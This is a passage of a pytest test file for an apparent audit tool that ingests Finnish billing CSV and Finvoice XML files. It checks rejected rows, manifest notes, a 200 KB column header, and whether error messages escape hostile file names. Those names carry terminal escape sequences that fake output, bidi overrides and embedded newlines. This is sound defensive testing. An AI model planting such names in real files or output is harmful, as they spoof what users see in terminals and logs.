                           "FROM load_counts").fetchall() == [(4, 3, 1)]  # line 3 padded
        assert con.execute("SELECT DISTINCT file FROM rejects").fetchall() == [
            ("in/caf\\xe9.csv",)]
    _assert_findings_csv_parses(o.out_dir / "findings.csv", 4 + STATEMENT)  # 3 of them R-status
    notes = json.loads((o.out_dir / "manifest.json").read_text(encoding="utf-8"))
    assert notes["sources"][0]["notes"] == [
        o.err.removeprefix("audit-kit: warning: ").strip(),
        "caf\\xe9.csv: 1 row shorter than the header, the missing last cells read as empty",
    ]


@pytest.mark.parametrize("name,data,line", [
    ("\x1b[2J\x1b[31mFAKE\rbad.xml", (BAD / "finvoice_not_well_formed.xml").read_bytes(),
     "in/x/\\x1b[2J\\x1b[31mFAKE\\rbad.xml (line 5, column 38): not well-formed XML "
     "(mismatched tag); fix or re-export the file"),
    ("bidi\u202elmx\n.xml", (BAD / "finvoice_wrong_root.xml").read_bytes(),
     "in/x/bidi\\u202elmx\\n.xml: no Finvoice element found; is this a Finvoice file?"),
], ids=["escape-sequence", "bidi-and-newline"])
def test_a_hostile_file_name_in_an_error_is_shown_escaped(capsys, tmp_path, name, data, line):
    folder = tmp_path / "in" / "x"
    folder.mkdir(parents=True)
    (folder / name).write_bytes(data)
    # the file alone as the source (in a folder it would be a file reject and the run go
    # on); its path as a JSON string, which YAML reads with the same escapes
    cfg = write_config(tmp_path, [{"name": "s", "kind": "finvoice",
                                   "path": json.dumps(f"in/x/{name}"), "system": "billing"}])
    assert_file_fault(run_cli(capsys, tmp_path, cfg), line)


def test_a_200_kb_header_name_is_one_cell_the_report_reads(capsys, tmp_path):
    """The detail naming it is longer than csv's default field limit (128 KiB)."""
    from audit_kit.report.build import build_report_html

    header = "Koti" + "x" * 200_000
    data = (f"Asiakasnumero;Yritys;Yhteyshenkilö;Sähköposti;{header}\n"
            "1;A Oy;Aino;a@example.com;K 1\n")
    o = run_file(capsys, tmp_path, "wide.csv", "customers_csv", "billing",
                 data=data.encode("utf-8"))
    assert (o.rc, o.err) == (1, "")
    _assert_findings_csv_parses(o.out_dir / "findings.csv", 2 + STATEMENT)  # one of them R-status
    assert [f["detail"] for f in o.findings() if f["rule_id"] == "M-unclassified"] == [
        f"unclassified column '{header}', values in 1 row: classify it in the config (columns:)"]
    assert header in build_report_html(o.out_dir, lang="en")
